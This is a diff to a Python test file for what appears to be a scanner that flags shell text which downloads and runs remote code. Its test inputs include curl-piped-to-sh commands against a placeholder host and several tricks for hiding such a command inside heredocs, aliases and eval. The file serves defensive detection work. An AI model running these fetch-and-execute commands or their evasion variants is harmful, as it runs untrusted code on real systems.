@@ -334,6 +334,7 @@ SAVED = "".join(f"RUN curl -o {c}{c} http://x.invalid/{c}{c}\n" for c in "abcdef
         "curl x" + "|sh '\"" * 5000 + "<<E",
         "rev " * 8000 + "|sh" * 500,
         "RUN git clone " * 2000,
+        "cat <<E\n" * 4000,
         "pip install " + "x=http://a.example -" * 1500,
         "npx " + "-x " * 10_000,
         SAVED + "RUN " + "mv aa bb; " * 3000,
@@ -371,3 +372,35 @@ def test_one_name_saved_twice() -> None:
     assert one.place is Place.DOUBTFUL
     assert len(in_text("curl -o i https://x.invalid/i\nchmod -R u+x,go-w a i b")) == 1
     assert in_text("curl -o i https://x.invalid/i\nchmod 644 i\nchmod 755 j; ls i") == []
+
+
+_USAGE = "cat <<EOF\nusage: curl -s https://x.invalid/i | sh\nEOF\n"
+
+
+def test_a_text_that_is_only_shown() -> None:
+    assert in_text(f"#!/bin/sh\nset -e\n{_USAGE}exit 1\n") == []
+    assert in_text(f"usage() {{\n{_USAGE.replace('cat', '  cat >&2')}}}\nusage\n") == []
+    (one,) = in_text(f"{_USAGE}curl -s https://x.invalid/i -o i; sh i\n")
+    assert (one.first, one.how) == (4, "run")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"{{\n{_USAGE}}} | sh\n",
+        f"(\n{_USAGE}) > x; sh x\n",
+        f"u() {{\n{_USAGE}}}\n. <(u)\n",
+        f"u() {{\n{_USAGE}}}\neval $(u)\n",
+        f"u() {{\n{_USAGE}}}\nsh -c $(u)\n",
+        f"cat() {{ sh; }}\n{_USAGE}",
+        f"alias cat=sh\n{_USAGE}",
+        f"sh -s \\\n{_USAGE}",
+        f"true <<X\n{_USAGE}X\n",
+        "x='\ncat <<EOF\n'; curl -s https://x.invalid/i | sh; : '\nEOF\n'",
+        "true <<X\ncat <<EOF\nX\ncurl -s https://x.invalid/i | sh\nEOF\n",
+        "cat <<EOF\n$(curl -s https://x.invalid/i | sh)\nEOF\n",
+        "cat <<EOF\ncurl -s https://x.invalid/i | sh\n",
+    ],
+)
+def test_a_text_that_may_be_run(text: str) -> None:
+    assert in_text(text) != []
